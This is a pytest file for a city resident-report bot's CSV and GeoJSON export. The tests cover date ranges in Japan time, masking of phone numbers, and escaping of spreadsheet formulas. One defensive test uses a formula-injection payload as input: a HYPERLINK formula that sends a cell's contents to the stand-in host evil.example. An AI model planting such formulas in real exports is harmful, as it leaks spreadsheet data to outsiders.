"""bot.reports.export: CSV with BOM for Excel and GeoJSON for QGIS over city dates; masking on request, and
never the resident key."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime, timedelta

from bot.reports.export import export_csv, export_geojson
from bot.reports.service import change_status
from tests.support.reports import BASE, CATEGORIES, NOW, draft, submit


def test_exports_csv_with_bom_and_geojson(factory) -> None:  # type: ignore[no-untyped-def]
    submit(factory, draft(description="電話は090-1234-5678です", address_text="中央町1丁目2番3号"))
    submit(factory, draft("illegal_dumping", where=None, address_text="北町の空き地"))
    submit(factory, draft(), NOW + timedelta(days=40))  # outside the range
    with factory() as session:
        data = export_csv(session, date(2025, 6, 1), date(2025, 6, 30), CATEGORIES)
        masked = export_csv(session, date(2025, 6, 1), date(2025, 6, 30), CATEGORIES, mask=True)
        geo = export_geojson(session, date(2025, 6, 1), date(2025, 6, 30), CATEGORIES)
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0].startswith("受付番号,受付日時,更新日時,状態,種類,担当課")
    assert lines[1].startswith("R-2025-000001,2025-06-01T12:00:00+09:00") and "道路の穴・損傷" in lines[1]
    assert len([x for x in lines if x]) == 3
    assert "090-1234-5678" in data.decode("utf-8-sig") and "090-1234-5678" not in masked.decode("utf-8-sig")
    assert "line-r1" not in data.decode("utf-8-sig")
    assert geo["type"] == "FeatureCollection" and len(geo["features"]) == 2
    point, nowhere = geo["features"]
    assert point["geometry"] == {"type": "Point", "coordinates": [BASE[1], BASE[0]]}
    assert nowhere["geometry"] is None and nowhere["properties"]["category"] == "不法投棄"
    json.dumps(geo)


def test_the_range_is_city_days_whatever_the_server_zone(factory, far_server_tz: str) -> None:  # type: ignore[no-untyped-def]
    submit(factory, draft(where=None), datetime(2025, 5, 31, 14, 59))  # 23:59 on 31 May in Japan
    submit(factory, draft(where=None), datetime(2025, 5, 31, 15, 0))  # 00:00 on 1 June in Japan
    submit(factory, draft(where=None), datetime(2025, 6, 1, 14, 59))  # 23:59 on 1 June in Japan
    submit(factory, draft(where=None), datetime(2025, 6, 1, 15, 0))  # 2 June in Japan
    with factory() as session:
        geo = export_geojson(session, date(2025, 6, 1), date(2025, 6, 1), CATEGORIES)
    assert [f["properties"]["created_at"] for f in geo["features"]] == [
        "2025-06-01T00:00:00+09:00",
        "2025-06-01T23:59:00+09:00",
    ]


def _cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_masking_covers_the_staff_note_in_csv_and_geojson(factory) -> None:  # type: ignore[no-untyped-def]
    """Issue 17, item 2: the latest note is masked like the description (the detail page masks it too)."""
    outcome = submit(factory, draft(description="穴です"))
    change_status(
        factory, outcome.report_id, "確認中", actor="staff", note="090-1234-5678 の方に折り返し済み"
    )
    with factory() as session:
        masked_csv = export_csv(session, date(2025, 6, 1), date(2025, 6, 30), CATEGORIES, mask=True)
        masked_geo = export_geojson(session, date(2025, 6, 1), date(2025, 6, 30), CATEGORIES, mask=True)
        raw_csv = export_csv(session, date(2025, 6, 1), date(2025, 6, 30), CATEGORIES)
    masked_note = "[電話番号] の方に折り返し済み"
    assert _cells(masked_csv)[0]["最新のメモ"] == masked_note
    assert masked_geo["features"][0]["properties"]["latest_note"] == masked_note
    assert "090-1234-5678" not in masked_csv.decode("utf-8-sig") + json.dumps(masked_geo, ensure_ascii=False)
    assert _cells(raw_csv)[0]["最新のメモ"] == "090-1234-5678 の方に折り返し済み"  # unmasked on request


def test_no_csv_cell_is_a_formula(factory) -> None:  # type: ignore[no-untyped-def]
    """Issue 17, item 1: the resident's description and address and the staff note are written as text."""
    attack = '=HYPERLINK("https://evil.example/?"&A3,"詳細")'
    outcome = submit(factory, draft(description=attack, address_text="@中央町"))
    change_status(factory, outcome.report_id, "確認中", actor="staff", note="+ 現地確認")
    with factory() as session:
        data = export_csv(session, date(2025, 6, 1), date(2025, 6, 30), CATEGORIES)
    row = _cells(data)[0]
    assert (row["内容"], row["場所"], row["最新のメモ"]) == ("'" + attack, "'@中央町", "'+ 現地確認")
    assert row["緯度"] == str(BASE[0])
